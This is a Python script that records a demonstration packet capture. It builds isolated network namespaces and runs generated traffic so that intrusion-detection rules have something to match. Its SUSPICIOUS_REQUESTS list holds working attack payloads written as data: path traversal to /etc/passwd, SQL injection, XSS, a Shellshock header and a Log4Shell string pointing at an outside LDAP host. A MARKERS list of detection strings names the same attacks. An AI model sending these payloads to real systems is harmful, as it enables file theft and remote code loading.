#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Record the demonstration capture ``policies/demo/branch.pcap``.

Run as root, the script makes two network namespaces joined by a veth pair, a
"branch" with two hosts and a "remote" side with three servers, runs real traffic
between them (HTTP, opaque records on TCP port 443, DNS, ICMP echo, RTP voice and
video) and records the branch's interface with tcpdump.  About a quarter of the HTTP
requests carry a string that the demonstration's intrusion rules look for.

Every byte is generated here: documents, names, tones and fillers.  Checksum and
segmentation offloads are off, so each frame is at most 1514 bytes long and carries
valid checksums.  The namespaces and processes are removed on every way out, and the
output file is replaced only by a recording that passed the final checks.

Needs: iproute2, ethtool and tcpdump.  Python's standard library is enough.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import http.server
import io
import ipaddress
import math
import os
import random
import secrets
import select
import shutil
import signal
import socket
import socketserver
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, NoReturn

REPOSITORY = Path(__file__).resolve().parent.parent
DEFAULT_OUTPUT = REPOSITORY / "policies" / "demo" / "branch.pcap"
PROGRAMS = ("ip", "ethtool", "tcpdump")

BRANCH_LINK, REMOTE_LINK = "lan0", "wan0"
BRANCH_MAC, REMOTE_MAC = "02:00:0a:01:00:0a", "02:00:0a:01:00:01"
BRANCH_A, BRANCH_B, GATEWAY = "10.1.0.10", "10.1.0.11", "10.1.0.1"
WEB, MEDIA, DNS = "203.0.113.10", "203.0.113.20", "203.0.113.53"

MAX_FRAME = 1514
READY_TIMEOUT = 10.0
NETWORK_TIMEOUT = 5.0
TRAFFIC_TIMEOUT = 60.0
STOP_SIGNALS = (signal.SIGINT, signal.SIGTERM, signal.SIGHUP)

MARKERS = (
    b"/etc/passwd",
    b"cmd.exe",
    b"<script>alert(",
    b"UNION SELECT",
    b"() { :; };",
    b"jndi:ldap",
)


class RecordingError(Exception):
    """The recording could not be made or is not usable."""


# --- What is sent ---------------------------------------------------------------


@dataclass(frozen=True)
class Request:
    """One HTTP request of the branch."""

    target: str
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes | None = None


FORM = {"Content-Type": "application/x-www-form-urlencoded"}

BENIGN_REQUESTS = (
    Request("/"),
    Request("/timetable.html"),
    Request("/notes.txt"),
    Request("/prices.html"),
    Request("/search?q=password+policy"),
    Request("/orders", "POST", FORM, b"item=lamp&count=3&select=union+square"),
    Request("/about.html"),
    Request("/no-such-page.html"),
    Request("/search?q=exe+river+timetable", headers={"Accept": "text/html"}),
    Request("/notes.txt", "HEAD"),
)

SUSPICIOUS_REQUESTS = (
    Request("/download?file=../../../../etc/passwd"),
    Request("/scripts/..%255c../system32/cmd.exe?/c+dir"),
    Request("/search?q=<script>alert(1)</script>"),
    Request("/login", "POST", FORM, b"user=1' UNION SELECT name, pin FROM staff--"),
    Request("/status", headers={"User-Agent": "() { :; }; /bin/cat /etc/passwd"}),
    Request("/", headers={"X-Api-Version": "${jndi:ldap://203.0.113.99/a}"}),
    Request("/view?page=/etc/passwd%00.html"),
    Request("/orders", "POST", FORM, b"item=<script>alert('lamp')</script>&count=1"),
    Request("/cgi-bin/run?program=cmd.exe"),
    Request("/", headers={"Cookie": "id=7 UNION SELECT 1, 2, 3"}),
)


def all_requests() -> list[Request]:
    """Interleave three benign requests with each suspicious one."""
    benign = BENIGN_REQUESTS * 3
    requests: list[Request] = []
    for index, suspicious in enumerate(SUSPICIOUS_REQUESTS):
        requests += [*benign[3 * index : 3 * index + 3], suspicious]
    return requests


def html_page(title: str, body: str) -> bytes:
    """Wrap a body in a small HTML page."""
    head = f"<!DOCTYPE html>\n<html>\n<head><title>{title}</title></head>\n"
    return f"{head}<body>\n<h1>{title}</h1>\n{body}</body>\n</html>\n".encode()


def timetable() -> str:
    """Return a table of ferry departures, long enough for two segments."""
    rows = (
        f"<tr><td>{hour:02d}:{minute:02d}</td><td>Pier {1 + hour % 3}</td></tr>\n"
        for hour in range(6, 21)
        for minute in (5, 20, 35, 50)
    )
    return f"<table>\n{''.join(rows)}</table>\n"


def price_list() -> str:
    """Return a list of made-up goods and prices."""
    goods = ("lamp", "kettle", "ladder", "blanket", "bucket", "compass")
    return "".join(
        f"<p>One {name} costs {4 + 3 * number} crowns.</p>\n" for number, name in enumerate(goods)
    )


def documents() -> dict[str, tuple[str, bytes]]:
    """Return the web server's documents: path to media type and content."""
    links = "<p><a href='/timetable.html'>Ferries</a> and our other pages.</p>\n"
    about = "<p>A made-up harbour shop that serves a demonstration capture.</p>\n"
    notes = b"".join(
        b"Note %d: the tide table on the wall is older than the wall.\n" % number
        for number in range(1, 13)
    )
    return {
        "/": ("text/html", html_page("Harbour shop", links)),
        "/about.html": ("text/html", html_page("About us", about)),
        "/timetable.html": ("text/html", html_page("Ferries", timetable())),
        "/prices.html": ("text/html", html_page("Prices", price_list())),
        "/search": ("text/html", html_page("Search", "<p>Nothing was found.</p>\n")),
        "/notes.txt": ("text/plain", notes),
    }


# --- HTTP -----------------------------------------------------------------------


class WebHandler(http.server.BaseHTTPRequestHandler):
    """Serve the documents; never echo anything of the request."""

    protocol_version = "HTTP/1.1"
    server_version = "harbour-shop/1.0"
    sys_version = ""
    pages = documents()

    def do_GET(self) -> None:
        """Answer with a document or with 404."""
        page = self.pages.get(self.path.partition("?")[0])
        if page is None:
            self.answer(404, "text/plain", b"There is no such page.\n")
        else:
            self.answer(200, *page)

    def do_HEAD(self) -> None:
        """Answer as GET does, without the document."""
        self.do_GET()

    def do_POST(self) -> None:
        """Read the form and say so."""
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.answer(200, "text/plain", b"Thank you, the form has arrived.\n")

    def answer(self, status: int, media_type: str, content: bytes) -> None:
        """Send one complete response."""
        self.send_response(status)
        self.send_header("Content-Type", media_type)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(content)

    def log_message(self, format: str, *args: object) -> None:
        """Log nothing."""


class WebServer(http.server.ThreadingHTTPServer):
    """An HTTP server that asks no resolver for its own name."""

    def server_bind(self) -> None:
        """Bind without the reverse lookup of the base class."""
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = WEB, 80


def send_request(request: Request, source: str) -> None:
    """Send one HTTP request over a connection of its own."""
    headers = {"User-Agent": "branch-demo/1.0", **request.headers}
    connection = http.client.HTTPConnection(
        WEB, 80, timeout=NETWORK_TIMEOUT, source_address=(source, 0)
    )
    with contextlib.closing(connection):
        connection.request(request.method, request.target, request.body, headers)
        response = connection.getresponse()
        response.read()
    if response.status not in (200, 404):
        raise RecordingError(f"{request.target}: HTTP status {response.status}")


def drive_http() -> None:
    """Send all HTTP requests; both hosts send some of either kind."""
    for index, request in enumerate(all_requests()):
        send_request(request, (BRANCH_A, BRANCH_B)[(index + index // 4) % 2])
        time.sleep(0.14)


# --- Opaque records on TCP port 443 ----------------------------------------------


def make_record(rng: random.Random, length: int) -> bytes:
    """Return random bytes framed like a TLS application data record."""
    return struct.pack("!BHH", 23, 0x0303, length) + rng.randbytes(length)


def read_record(stream: io.BufferedIOBase) -> bytes:
    """Read one record; empty at the end of the stream."""
    header = stream.read(5)
    if len(header) < 5:
        return b""
    (length,) = struct.unpack_from("!H", header, 3)
    return header + stream.read(length)


class RecordHandler(socketserver.StreamRequestHandler):
    """Answer each record with one three times as long."""

    def handle(self) -> None:
        """Serve one connection."""
        while record := read_record(self.rfile):
            length = 3 * (len(record) - 5)
            self.wfile.write(make_record(random.Random(record), length))


class RecordServer(socketserver.ThreadingTCPServer):
    """The server on TCP port 443."""

    daemon_threads = True
    allow_reuse_address = True


def exchange_records(source: str, lengths: Sequence[int], rng: random.Random) -> None:
    """Exchange records of the given lengths over one connection."""
    with (
        socket.create_connection(
            (WEB, 443), NETWORK_TIMEOUT, source_address=(source, 0)
        ) as connection,
        connection.makefile("rb") as stream,
    ):
        for length in lengths:
            connection.sendall(make_record(rng, length))
            if len(read_record(stream)) != 5 + 3 * length:
                raise RecordingError("port 443: the answer is incomplete")


def drive_records() -> None:
    """Make a few connections to TCP port 443."""
    rng = random.Random(443)
    for number in range(6):
        time.sleep(0.7)
        source = (BRANCH_A, BRANCH_B)[number % 2]
        exchange_records(source, (160 + 40 * number, 420, 90), rng)


# --- DNS ------------------------------------------------------------------------

TYPE_A, TYPE_AAAA, CLASS_IN, NXDOMAIN = 1, 28, 1, 3

ZONE = {
    ("www.harbour.example", TYPE_A): ipaddress.ip_address(WEB).packed,
    ("www.harbour.example", TYPE_AAAA): ipaddress.ip_address("2001:db8::10").packed,
    ("shop.harbour.example", TYPE_A): ipaddress.ip_address(WEB).packed,
    ("voice.harbour.example", TYPE_A): ipaddress.ip_address(MEDIA).packed,
    ("video.harbour.example", TYPE_A): ipaddress.ip_address(MEDIA).packed,
    ("ns.harbour.example", TYPE_A): ipaddress.ip_address(DNS).packed,
}

QUESTIONS = (
    *ZONE,
    ("voice.harbour.example", TYPE_AAAA),
    ("printer.branch.example", TYPE_A),
    ("shop.harbour.example", TYPE_AAAA),
    ("old.harbour.example", TYPE_A),
)


def dns_query(identifier: int, name: str, record_type: int) -> bytes:
    """Build a recursive query with one question."""
    labels = (bytes([len(label)]) + label.encode() for label in name.split("."))
    header = struct.pack("!6H", identifier, 0x0100, 1, 0, 0, 0)
    return header + b"".join(labels) + struct.pack("!BHH", 0, record_type, CLASS_IN)


def parse_question(message: bytes) -> tuple[str, int]:
    """Return the name and the type that a query asks for."""
    labels, position = [], 12
    while length := message[position]:
        labels.append(message[position + 1 : position + 1 + length].decode())
        position += 1 + length
    (record_type,) = struct.unpack_from("!H", message, position + 1)
    return ".".join(labels), record_type


def dns_answer(query: bytes) -> bytes:
    """Answer a query from the zone: a record, no data, or no such name."""
    name, record_type = parse_question(query)
    data = ZONE.get((name, record_type))
    known = any(name == owner for owner, _ in ZONE)
    flags = 0x8580 | (0 if known else NXDOMAIN)
    header = query[:2] + struct.pack("!5H", flags, 1, 0 if data is None else 1, 0, 0)
    if data is None:
        return header + query[12:]
    fixed = struct.pack("!HHHIH", 0xC00C, record_type, CLASS_IN, 300, len(data))
    return header + query[12:] + fixed + data


class DnsHandler(socketserver.DatagramRequestHandler):
    """Answer one DNS query."""

    def handle(self) -> None:
        """Read the query, write the answer."""
        self.wfile.write(dns_answer(self.rfile.read()))


def ask(source: str, identifier: int, name: str, record_type: int) -> None:
    """Send one query from a new port and check its answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(NETWORK_TIMEOUT)
        client.bind((source, 0))
        client.connect((DNS, 53))
        query = dns_query(identifier, name, record_type)
        client.send(query)
        if client.recv(512) != dns_answer(query):
            raise RecordingError(f"DNS: wrong answer for {name}")


def drive_dns() -> None:
    """Ask every question three times."""
    rng = random.Random(53)
    for index, (name, record_type) in enumerate(QUESTIONS * 3):
        ask((BRANCH_A, BRANCH_B)[index % 2], rng.randrange(65536), name, record_type)
        time.sleep(0.19)


# --- ICMP echo ------------------------------------------------------------------


def internet_checksum(data: bytes) -> int:
    """Return the checksum of RFC 1071 over an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def echo_request(identifier: int, sequence: int) -> bytes:
    """Build an ICMP echo request with 56 bytes of data."""
    data = bytes(range(56))
    head = struct.pack("!BBHHH", 8, 0, 0, identifier, sequence)
    checksum = internet_checksum(head + data)
    return struct.pack("!BBHHH", 8, 0, checksum, identifier, sequence) + data


def ping(source: str, target: str, count: int) -> None:
    """Send echo requests and wait for each reply."""
    identifier = int(ipaddress.ip_address(source)) & 0xFFFF
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.settimeout(NETWORK_TIMEOUT)
        raw.bind((source, 0))
        raw.connect((target, 0))
        for sequence in range(1, count + 1):
            request = echo_request(identifier, sequence)
            raw.send(request)
            if raw.recv(2048)[24:] != request[4:]:
                raise RecordingError(f"ping {target}: wrong reply")
            time.sleep(0.25)


def drive_ping() -> None:
    """Send 20 echo requests."""
    ping(BRANCH_A, WEB, 12)
    ping(BRANCH_B, MEDIA, 8)


# --- RTP ------------------------------------------------------------------------

Schedule = list[tuple[float, bytes]]
"""Datagrams with the second, from the stream's begin, at which each one leaves."""

VOICE_PACKETS = 65
VIDEO_FRAMES, VIDEO_PACKETS_PER_FRAME = 38, 4


@dataclass(frozen=True)
class Session:
    """One RTP session between a branch host and the media server."""

    branch: str
    port: int
    start: float
    upstream: Schedule
    downstream: Schedule


def rtp(payload_type: int, mark: bool, number: int, stamp: int, source: int) -> bytes:
    """Build an RTP version 2 header."""
    second = (0x80 if mark else 0) | payload_type
    return struct.pack("!BBHII", 0x80, second, number & 0xFFFF, stamp & 0xFFFFFFFF, source)


def mu_law(sample: int) -> int:
    """Encode a 16-bit sample as G.711 mu-law."""
    sign = 0x80 if sample < 0 else 0
    magnitude = min(abs(sample), 32635) + 132
    exponent = magnitude.bit_length() - 8
    return ~(sign | exponent << 4 | (magnitude >> (exponent + 3)) & 15) & 0xFF


def tone(frequency: float, first: int, count: int) -> bytes:
    """Return mu-law samples of a tone at 8000 samples a second."""
    step = 2 * math.pi * frequency / 8000
    return bytes(
        mu_law(round(9000 * math.sin(step * index))) for index in range(first, first + count)
    )


def voice(seed: int) -> Schedule:
    """Return a G.711 stream: 160 samples every 20 ms."""
    rng = random.Random(seed)
    source, number, stamp = (
        rng.getrandbits(32),
        rng.getrandbits(16),
        rng.getrandbits(32),
    )
    frequency = rng.uniform(200, 900)
    return [
        (
            0.02 * i,
            rtp(0, i == 0, number + i, stamp + 160 * i, source) + tone(frequency, 160 * i, 160),
        )
        for i in range(VOICE_PACKETS)
    ]


def video(seed: int) -> Schedule:
    """Return a stream of 25 frames a second, each cut into several packets."""
    rng = random.Random(seed)
    source, number, stamp = (
        rng.getrandbits(32),
        rng.getrandbits(16),
        rng.getrandbits(32),
    )
    schedule: Schedule = []
    for index in range(VIDEO_FRAMES * VIDEO_PACKETS_PER_FRAME):
        frame, part = divmod(index, VIDEO_PACKETS_PER_FRAME)
        last = part == VIDEO_PACKETS_PER_FRAME - 1
        header = rtp(96, last, number + index, stamp + 3600 * frame, source)
        payload = rng.randbytes(rng.randint(1000, 1300 - len(header)))
        schedule.append((0.04 * frame + 0.002 * part, header + payload))
    return schedule


def sessions() -> list[Session]:
    """Return the two calls and the camera."""
    return [
        Session(BRANCH_A, 16384, 0.5, voice(1), voice(2)),
        Session(BRANCH_B, 16386, 2.6, voice(3), voice(4)),
        Session(BRANCH_B, 16400, 3.2, video(5), []),
    ]


def bound_socket(address: str, port: int) -> socket.socket:
    """Return a UDP socket on an address and port."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, port))
    udp.settimeout(NETWORK_TIMEOUT)
    return udp


def run_leg(udp: socket.socket, outgoing: Schedule, expected: int) -> None:
    """Send a schedule over a connected socket, then take in all that was expected."""
    begin = time.monotonic()
    for offset, datagram in outgoing:
        time.sleep(max(0.0, begin + offset - time.monotonic()))
        udp.send(datagram)
    for _ in range(expected):
        udp.recv(2048)


def drive_session(session: Session) -> None:
    """Run the branch's end of an RTP session."""
    time.sleep(session.start)
    with bound_socket(session.branch, session.port) as udp:
        udp.connect((MEDIA, session.port))
        run_leg(udp, session.upstream, len(session.downstream))


def serve_session(udp: socket.socket, session: Session) -> None:
    """Run the server's end: begin with the branch's first packet."""
    with udp:
        udp.settimeout(READY_TIMEOUT + NETWORK_TIMEOUT)
        _, peer = udp.recvfrom(2048, socket.MSG_PEEK)
        udp.connect(peer)
        run_leg(udp, session.downstream, len(session.upstream))


# --- The two sides, each run inside its namespace ---------------------------------


def start_thread(target: Callable[..., None], *arguments: object) -> None:
    """Run a function in a thread that does not outlive the process."""
    threading.Thread(target=target, args=arguments, daemon=True).start()


def serve() -> None:
    """Serve until standard input ends, which it also does if the parent dies."""
    servers = (
        WebServer((WEB, 80), WebHandler),
        RecordServer((WEB, 443), RecordHandler),
        socketserver.UDPServer((DNS, 53), DnsHandler),
    )
    for server in servers:
        start_thread(server.serve_forever)
    for session in sessions():
        udp = bound_socket(MEDIA, session.port)
        start_thread(serve_session, udp, session)
    print("ready", flush=True)
    sys.stdin.read()


def drive() -> None:
    """Run all of the branch's traffic at once and fail if any part fails."""
    with ThreadPoolExecutor(max_workers=8) as pool:
        parts = [pool.submit(part) for part in (drive_http, drive_records, drive_dns, drive_ping)]
        parts += [pool.submit(drive_session, session) for session in sessions()]
    for part in parts:
        part.result()


# --- Namespaces and processes ------------------------------------------------------


def run(*command: str) -> None:
    """Run a short command; its messages become part of the error."""
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RecordingError(f"{' '.join(command)}: {done.stderr.strip()}")


def remove_namespace(name: str, link: str) -> None:
    """Remove a namespace and, first, its link; one that is not there is fine."""
    for command in (("-n", name, "link", "del", link), ("netns", "del", name)):
        subprocess.run(("ip", *command), capture_output=True, check=False)


def make_namespaces(stack: contextlib.ExitStack) -> tuple[str, str]:
    """Make both namespaces and have the stack remove them."""
    token = f"{os.getpid()}-{secrets.token_hex(3)}"
    branch, remote = f"demo-branch-{token}", f"demo-remote-{token}"
    for name, link in ((branch, BRANCH_LINK), (remote, REMOTE_LINK)):
        stack.callback(remove_namespace, name, link)
        run("ip", "netns", "add", name)
    return branch, remote


def join(branch: str, remote: str) -> None:
    """Join the namespaces by a veth pair without offloads; leave the ends down."""
    run(
        *("ip", "link", "add", BRANCH_LINK, "address", BRANCH_MAC, "netns", branch),
        *("type", "veth", "peer", "name", REMOTE_LINK),
        *("address", REMOTE_MAC, "netns", remote),
    )
    for name, link in ((branch, BRANCH_LINK), (remote, REMOTE_LINK)):
        offloads = ("tx", "off", "tso", "off", "gso", "off", "gro", "off")
        run("ip", "netns", "exec", name, "ethtool", "-K", link, *offloads)


def address(branch: str, remote: str) -> None:
    """Give both sides their addresses, bring them up, set the branch's route."""
    plan = (
        (branch, BRANCH_LINK, (f"{BRANCH_A}/24", f"{BRANCH_B}/24")),
        (
            remote,
            REMOTE_LINK,
            (f"{GATEWAY}/24", f"{WEB}/32", f"{MEDIA}/32", f"{DNS}/32"),
        ),
    )
    for name, link, addresses in plan:
        for each in addresses:
            run("ip", "-n", name, "address", "add", each, "dev", link)
        for device in ("lo", link):
            run("ip", "-n", name, "link", "set", device, "up")
    run("ip", "-n", branch, "route", "add", "default", "via", GATEWAY)


def inside(namespace: str, *command: str) -> tuple[str, ...]:
    """Return the command line that runs a command inside a namespace."""
    return ("ip", "netns", "exec", namespace, *command)


def role_command(namespace: str, role: str) -> tuple[str, ...]:
    """Return the command line that runs one side of this script in a namespace."""
    return inside(namespace, sys.executable, str(Path(__file__).resolve()), role)


def end_process(process: subprocess.Popen[bytes], number: signal.Signals) -> None:
    """End a process started here and collect it."""
    if process.poll() is None:
        process.send_signal(number)
    try:
        process.communicate(timeout=NETWORK_TIMEOUT)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()


def wait_for_line(stream: IO[bytes] | None, text: bytes, what: str) -> None:
    """Read unbuffered lines until one contains the text."""
    if stream is None:
        raise RecordingError(f"{what}: its output is not piped")
    deadline = time.monotonic() + READY_TIMEOUT
    seen = b""
    while select.select([stream], [], [], max(0.0, deadline - time.monotonic()))[0]:
        line = stream.readline()
        if text in line:
            return
        seen += line
        if not line:
            break
    raise RecordingError(f"{what} did not get ready: {seen.decode().strip()}")


def start_server(stack: contextlib.ExitStack, namespace: str) -> None:
    """Start the remote side and wait until it listens."""
    server = subprocess.Popen(
        role_command(namespace, "--serve"),
        bufsize=0,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        start_new_session=True,
    )
    stack.callback(end_process, server, signal.SIGTERM)
    wait_for_line(server.stdout, b"ready", "server")


def start_tcpdump(
    stack: contextlib.ExitStack, namespace: str, output: Path
) -> subprocess.Popen[bytes]:
    """Start recording and wait until tcpdump listens."""
    options = ("-i", BRANCH_LINK, "-n", "-Z", "root", "-U", "--immediate-mode")
    precision = "--time-stamp-precision=micro"
    tcpdump = subprocess.Popen(
        inside(namespace, "tcpdump", *options, precision, "-w", str(output)),
        bufsize=0,
        stdin=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    stack.callback(end_process, tcpdump, signal.SIGINT)
    wait_for_line(tcpdump.stderr, b"listening on", "tcpdump")
    return tcpdump


def finish_tcpdump(tcpdump: subprocess.Popen[bytes]) -> None:
    """Stop recording; packets that the kernel dropped make it unusable."""
    time.sleep(0.5)
    tcpdump.send_signal(signal.SIGINT)
    _, messages = tcpdump.communicate(timeout=NETWORK_TIMEOUT)
    if tcpdump.returncode != 0 or b"\n0 packets dropped by kernel" not in messages:
        raise RecordingError(f"tcpdump: {messages.decode().strip()}")


def run_driver(namespace: str) -> None:
    """Run the branch's traffic to its end."""
    try:
        subprocess.run(
            role_command(namespace, "--drive"),
            stdin=subprocess.DEVNULL,
            check=True,
            timeout=TRAFFIC_TIMEOUT,
            start_new_session=True,
        )
    except subprocess.SubprocessError as error:
        raise RecordingError(f"traffic: {error}") from error


def record(output: Path) -> None:
    """Make the network, run the traffic, record it, remove the network."""
    with contextlib.ExitStack() as stack:
        branch, remote = make_namespaces(stack)
        join(branch, remote)
        address(branch, remote)
        tcpdump = start_tcpdump(stack, branch, output)
        start_server(stack, remote)
        run_driver(branch)
        finish_tcpdump(tcpdump)


# --- The finished file --------------------------------------------------------------


def read_frames(path: Path) -> Iterator[tuple[float, bytes]]:
    """Read the time and bytes of each frame of a little-endian classic pcap file."""
    data = path.read_bytes()
    magic, major, minor, _, _, _, link_type = struct.unpack_from("<IHHiIII", data)
    if (magic, major, minor, link_type) != (0xA1B2C3D4, 2, 4, 1):
        raise RecordingError("not a classic pcap file of Ethernet frames")
    position = 24
    while position < len(data):
        seconds, micros, kept, length = struct.unpack_from("<4I", data, position)
        if kept != length or length > MAX_FRAME:
            raise RecordingError(f"a frame of {length} bytes, {kept} kept")
        position += 16 + kept
        yield seconds + micros / 1e6, data[position - kept : position]


def summarize(path: Path) -> str:
    """Check the recording and describe it in a few lines."""
    frames = list(read_frames(path))
    times = [when for when, _ in frames]
    if not frames or times != sorted(times):
        raise RecordingError("no frames, or time runs backwards; record again")
    longest = max(len(frame) for _, frame in frames)
    size, seconds = path.stat().st_size, times[-1] - times[0]
    lines = [f"{size} bytes, {len(frames)} frames in {seconds:.2f} s"]
    lines.append(f"longest frame: {longest} bytes")
    for marker in MARKERS:
        count = sum(marker in frame for _, frame in frames)
        if count == 0:
            raise RecordingError(f"no frame contains {marker.decode()}")
        lines.append(f"frames that contain {marker.decode()}: {count}")
    return "\n".join(lines)


def record_checked(output: Path) -> str:
    """Record beside the output file and move a good recording over it."""
    with tempfile.TemporaryDirectory(dir=output.parent, prefix=".recording-") as place:
        draft = Path(place) / "draft.pcap"
        record(draft)
        summary = summarize(draft)
        draft.chmod(0o644)
        draft.replace(output)
    return summary


# --- Command line -------------------------------------------------------------------


def stop(number: int, _frame: object) -> NoReturn:
    """Leave in an orderly way on a signal; later signals do not disturb that."""
    for each in STOP_SIGNALS:
        signal.signal(each, signal.SIG_IGN)
    raise SystemExit(128 + number)


def check_prerequisites(output: Path) -> None:
    """Say what is missing before anything is changed."""
    if os.geteuid() != 0:
        raise RecordingError("root is needed to make network namespaces")
    missing = [program for program in PROGRAMS if shutil.which(program) is None]
    if missing:
        raise RecordingError(f"not installed: {', '.join(missing)}")
    if not output.parent.is_dir():
        raise RecordingError(f"{output.parent} is not a directory")


def parse_arguments() -> argparse.Namespace:
    """Parse the command line."""
    parser = argparse.ArgumentParser(
        description="Record real traffic between two network namespaces (as root).",
        epilog="The file is replaced only by a recording that passed all checks.",
    )
    parser.add_argument(
        "-o",
        "--output",
        type=Path,
        default=DEFAULT_OUTPUT,
        help="capture file to write (default: %(default)s)",
    )
    side = parser.add_mutually_exclusive_group()
    for option in ("--serve", "--drive"):
        side.add_argument(option, action="store_true", help=argparse.SUPPRESS)
    return parser.parse_args()


def main() -> int:
    """Run the recording, or one of its sides when called inside a namespace."""
    arguments = parse_arguments()
    if arguments.serve:
        serve()
        return 0
    if arguments.drive:
        drive()
        return 0
    for number in STOP_SIGNALS:
        signal.signal(number, stop)
    output: Path = arguments.output.resolve()
    try:
        check_prerequisites(output)
        print(record_checked(output))
    except (RecordingError, OSError, subprocess.SubprocessError) as error:
        print(f"{Path(__file__).name}: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
